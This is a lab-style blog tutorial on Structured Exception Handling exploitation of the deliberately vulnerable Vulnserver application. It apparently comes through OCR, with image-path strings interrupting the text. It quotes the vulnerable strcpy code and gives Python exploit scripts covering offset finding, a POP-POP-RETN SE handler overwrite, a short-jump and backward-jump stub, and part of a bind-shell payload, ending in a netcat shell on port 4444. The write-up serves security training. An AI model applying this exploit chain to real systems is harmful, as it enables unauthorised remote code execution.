Structured Exception Handling is amechanism for handling both hardware and software exceptions in Windows OS. Structured exception handling enables us to have complete control over the handling of exceptions and it also provides support for debuggers as well.

SEH exploitation is based on stack buffer overflow technique. It becomes easy to exploit a host by SEH when ASLR and DEP are not enabled. In this blog I will be exploiting the Vulnserver application. Vulnserver can be downloaded from here.My lab setup consists of:

1) Windows XP SP2 running Vulnserver, and Immunity Debugger to debug the application during runtime.

2) Backtrack R3 with Python 2.7.


Overview of Vulnserver.c

Vulnserver package includes vulnserver.exe along with essfunc.dll. Source code files are also included to understand the working of the application. The code is pretty simple to understand. I have dragged out some important snippets which will be for our use.



#define DEFAULT_BUFLEN 4096 // Buffer Length: 4096 bytes



char *RecvBuf = malloc(DEFAULT_BUFLEN);



Result = recv(Client, RecvBuf, RecvBufLen, 0);

if (Result > 0) {if (strncmp(RecvBuf, “GMON “, 5) == 0) { // checks for GMON command

char GmonStatus[13] = “GMON STARTED\n”;

for (i = 5; i < RecvBufLen; i++) {

if ((char)RecvBuf[i] == ‘/’) {

if (strlen(RecvBuf) > 3950) {






SendResult = send( Client, GmonStatus, sizeof(GmonStatus), 0 );






The application accepts socket connection on port 9999 and receives data from client. In the above snippet, we see “GMON /” command accepts data of size more than 3950 characters which is then passed to Function3.



void Function3(char *Input) {char Buffer2S[2000];

strcpy(Buffer2S, Input); // Buffer overflow vulnerable function.




Function3 uses strcpy to copy data into the buffer variableBuffer2S. Strcpy being a buffer overflow vulnerable function doesn’t provide bounds check on the buffer size. RecvBuf can hold data of 4096 bytes whereas Buffer2S holds 2000 bytes only. Hence, buffer overflow of 2096 bytes can be done here.In SEH, exceptions are handled using special exception handlers which has a linked list structure. In the stack of any function, a pointer to exception registration record and a pointer to the next exception registration record are stored. When an exception occurs, SEH chain is walked through to find which exception handler can handle the current exception. A Thread Dispatcher Stack is created for the current exception handler. And, the 3rd frame in the Thread Dispatcher Stack is the Establisher Frame. SEH exploitation is possible only because of the fact that Establisher Frame holds the address of the next exception registration record. More details I will be discussing later.


To begin with our exploitation, let’s run the Vulnserver in Immunity debugger.

SEH chain can be accessed by navigating in View->SEH Chain. The current SE handler is present in Kernel32.dll module.


Now, let’s send random data of size more than 2000 bytes using a python program.

import sockets = socket.socket( socket.AF_INET, socket.SOCK_STREAM )

s.connect(( “”, 9999 ))

print “sending data to client..”


data = ‘GMON /’

data += “A” * 4000




In the stack pane, we can see that the stack is being overflown by “A” character. The SEH chain will show the corrupt entry.

On further scrolling down the SE handler and next exception record can be seen. We have to exploit in such a way that these two fields are overwritten by some other values. But for this, we need to find theexact offset of the SE handler.


Finding the right Offsets

Pattern_create and pattern_offset tools can be used to find the exact offset as well as the bad characters involved.


Put the generated shellcode as the data for exploitation.



data = ‘GMON /’

data += “Aa0Aa1Aa2Aa3Aa4Aa5Aa6Aa7Aa8Aa9Ab0Ab1Ab2Ab3Ab4Ab5Ab6Ab7Ab8Ab……”Get the values which were written on SE handler and pointer to next SEH record.The exact offset we can now find out using pattern_offset. The pointer to next SEH record is 3498 bytes away whereas SE handler is 3502 bytes away from our point of buffer overflow. These values remain constant if ASLR (Address Space Layout Randomization) is not enabled.


Recheck the offsets

Before we proceed further we need to confirm whether we got the right offsets to make sure the SEH chain is present at the same position on stack at every run. The simplest way is by trying to overwrite the pointer to next SEH record and SE handler with different alphabets.




data = ‘GMON /’

data += “A”* 3498

data += “B” * 4 // overwrite pointer to next SEH record

data += “C” * 4 //overwrite SE handler

data += “A” * 505Yes, we are on the right track now.


Playing with SE handler

As mentioned earlier, when an exception occurs, the TIB contains the Establisher frame in its 3rd offset address. So if we execute two POP instructions, ESP points to Establisher frame and a final RETN instruction will get the control back to the next SEH entry on the old stack. To achieve this we have to overwrite SE handler with address to a location where POP-POP-RETN instruction is located.

To find the POP-POP-RETN instruction sequence, we will use any DLL which is not SAFESEH enabled. Any non-OS DLLs are basically not enabled with SAFESEH. I will use script for this.


Executing the “! modules” command, we can see that essfunc.dll which was included with Vulnserver appliation is not SAFESEH enabled. We search for a “Sequence of commands” in essfunc.dll. It should be taken care that the addresses doesn’t contain any possible bad characters ( eg. \x00, \x0a, \x0d )



The PPR sequence I will use starts from the address \x625010B4. Now because of the Little Endian architecture of Intel machines, we have to write the addresses in reverse order (i.e.,\xB4\x10\x50\x62 ).


Designing the final exploit code!

The exploit I will use is the shell_bind_tcp, which after exploitation will give us the shell access over a TCP connection. Msfpayload is the most suitable tool for generating shellcodes which can also be encoded by Shikata ga nai encoder to prevent it further from being detected by antivirus.


A shellcode of size 368 bytes is generated. This shellcode will be put on the stack which will be executed and give us shell access. But if we observe the stack pane, the SE handleris present just a few bytes away from where the stack ends. Hence only half of the shellcode could be inserted on the stack in such a situation. The only solution in this case is to use the Egg Hunter concept. In this concept, the shellcode is injected before the SE handler; and next SEH entry is overwritten with a short jump instruction. The short jump lands in a section of code which is designed in such a way that the injected shellcode is eventually called and executed.



import socket

s=socket.socket(socket.AF_INET, socket.SOCK_STREAM)


print “waiting fr a client”


data=’GMON /’data += “\x90″*2752

data += “\x90″*16


data += (“\xda\xcf\xd9\x74\x24\xf4\x5d\x33\xc9\xb1\x56\xb8\xb2\xc9\xdf”data += “\x90″*362

data += “\xEB\x0F\x90\x90” // Pointer to next SEH record

data += “\xB4\x10\x50\x62” // SE handler


data += “\x59\xFE\xCD\xFE\xCD\xFE\xCD\xFF\xE1\xE8\xF2\xFF\xFF\xFF”

data += “\x90″*500






The above code may look complicated due to mathematical calculations involved in here. But it’s easy to understand actually.

data += “\xEB\x0F\x90\x90” // Pointer to next SEH record

EB is the opcode for JMP instruction. So a short jump of 15 bytes is made which will land here:data += “\x59\xFE\xCD\xFE\xCD\xFE\xCD\xFF\xE1\xE8\xF2\xFF\xFF\xFF”

This is a little complicated code being referred from [1]. It basically makes a backward jump of 768 bytes by decrementing CX register 3 times. And exactly 768 bytes offset in lower memory address the exploit of 368 bytes is being injected. The “\x90” is the NOP (no operation) instruction which tells CPU that no operation is to be done. The NOP sled comes handy when there is a chance to miss the exact offsets calculations by some bytes.


Time to attack!!

Our exploit code is ready now. Restart the application in Immunity and run the exploit. To generate exception, press SHIFT+F7. The exploit code would be called after a series of jumps. To connect to the open TCP port 4444, use netcat.


And voila!! The shell is ours and we are free to exploit it further…



1] SEH based Buffer OVerflow by Stephen Bradshaw

2] Introducing Vulnserver

3] Advanced MalwareAnalysis Training Session 2-Botnet Analysis Part 1 by Amit Malik